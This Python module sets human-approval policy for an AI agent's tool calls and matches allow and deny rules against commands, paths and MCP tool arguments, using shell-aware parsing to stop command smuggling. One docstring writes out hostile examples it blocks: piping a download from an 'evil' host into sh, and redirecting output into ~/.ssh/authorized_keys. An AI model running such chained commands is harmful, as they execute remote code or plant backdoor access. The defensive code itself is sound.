"""When a tool call needs a human: per-tool policy and the session's "always allow" rules."""

from __future__ import annotations

import re
import shlex
from collections.abc import Mapping
from fnmatch import fnmatchcase
from pathlib import PurePosixPath
from typing import Any

import orjson
from pydantic import BaseModel, Field

from tools.args import ExecuteCommandArgs, ToolArgs

ASK_BY_DEFAULT = ("write_file", "create_directory", "execute_command")


class ToolPolicy(BaseModel):
    ask: bool = True
    timeout_seconds: float | None = Field(
        None, gt=0, description="Reject the call if nobody decides in time; None waits forever."
    )


def default_policies() -> dict[str, ToolPolicy]:
    return {name: ToolPolicy() for name in ASK_BY_DEFAULT}


Arguments = ToolArgs | Mapping[str, Any]  # a built-in tool's, or a mounted (MCP) tool's


def subject(args: Arguments) -> str | None:
    """What a rule is matched against, and shown for: the command, the normalised path, or
    for a mounted tool its arguments as compact JSON with sorted keys (`{"word":"hub"}`)."""
    if isinstance(args, Mapping):
        return orjson.dumps(args, option=orjson.OPT_SORT_KEYS).decode()
    if isinstance(args, ExecuteCommandArgs):
        return args.command.strip()
    path = getattr(args, "path", None)
    return PurePosixPath(path).as_posix() if isinstance(path, str) else None


def rule_allows(pattern: str, args: Arguments) -> bool:
    """Whether an allow rule covers the call. A path rule is a glob ("docs/*.md"). A command rule
    is matched against the command's words, never its raw text, and only a single plain command
    can match: "npm test" allows "npm test -k x", not "npm tests", and not
    "npm test; curl evil | sh" or "npm test > ~/.ssh/authorized_keys" (an IDE may run it through
    a shell). "=npm test" allows exactly that command; a rule with `*` is a glob on the whole
    command. A mounted tool's rule is "*" (every call) or a JSON object of a glob per argument,
    naming every argument the call has: `{"url": "https://docs.example/*"}`."""
    if isinstance(args, Mapping):
        return _arguments_match(pattern, args, every_key=True)
    if isinstance(args, ExecuteCommandArgs):
        commands = simple_commands(args.command)
        return (
            commands is not None and len(commands) == 1 and _command_matches(pattern, commands[0])
        )
    return _path_matches(pattern, args)


def rule_denies(pattern: str, args: Arguments) -> bool:
    """Whether a deny rule covers the call: for a command, when any of the commands it chains
    matches the rule; a text that cannot be split (a substitution, say) is cut at every shell
    character instead, and denied if the rule's words appear in it anywhere. A mounted tool's
    deny rule is "*" or globs for some of its arguments, whatever the others are."""
    if isinstance(args, Mapping):
        return _arguments_match(pattern, args, every_key=False)
    if isinstance(args, ExecuteCommandArgs):
        commands = simple_commands(args.command)
        if commands is not None:
            return any(_command_matches(pattern, words) for words in commands)
        words = [w for w in re.split(r"[\s;&|<>()`$'\"]+", args.command) if w]
        wanted = pattern.removeprefix("=").replace("*", " ").split()
        return bool(wanted) and any(words[i : i + len(wanted)] == wanted for i in range(len(words)))
    return _path_matches(pattern, args)


SHELL_OPERATORS = frozenset(";&|<>()")


def simple_commands(command: str) -> list[list[str]] | None:
    """The plain commands a shell would run for this text, as words, split at its operators
    (`;`, `&&`, `|`, redirections); None if it has substitutions (`$(`, backticks), several
    lines, or quotes that do not close, which no rule should try to read."""
    if "`" in command or "$(" in command or "\n" in command or "\r" in command:
        return None
    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    try:
        tokens = list(lexer)
    except ValueError:
        return None
    commands: list[list[str]] = [[]]
    for token in tokens:
        if token and set(token) <= SHELL_OPERATORS:
            commands.append([])
        else:
            commands[-1].append(token)
    return [words for words in commands if words] or None


def _command_matches(pattern: str, words: list[str]) -> bool:
    if "*" in pattern:
        return fnmatchcase(shlex.join(words), pattern.strip())
    exact = pattern.startswith("=")
    try:
        wanted = shlex.split(pattern.removeprefix("="))
    except ValueError:
        return False
    if not wanted:
        return False
    return words == wanted if exact else words[: len(wanted)] == wanted


def _arguments_match(pattern: str, args: Mapping[str, Any], *, every_key: bool) -> bool:
    """A glob per argument, never one over the arguments' text: there `*` could match across
    the boundary between two arguments and let an extra one through."""
    if pattern.strip() == "*":
        return True
    try:
        globs = orjson.loads(pattern)
    except orjson.JSONDecodeError:
        return False
    if not isinstance(globs, dict) or not globs:
        return False
    keys, named = set(args), set(globs)
    if (keys != named) if every_key else not named <= keys:
        return False
    return all(fnmatchcase(_text(args[k]), str(glob)) for k, glob in globs.items())


def _text(value: Any) -> str:
    return value if isinstance(value, str) else orjson.dumps(value).decode()


def _path_matches(pattern: str, args: Arguments) -> bool:
    target = subject(args)
    return target is not None and fnmatchcase(target, pattern)
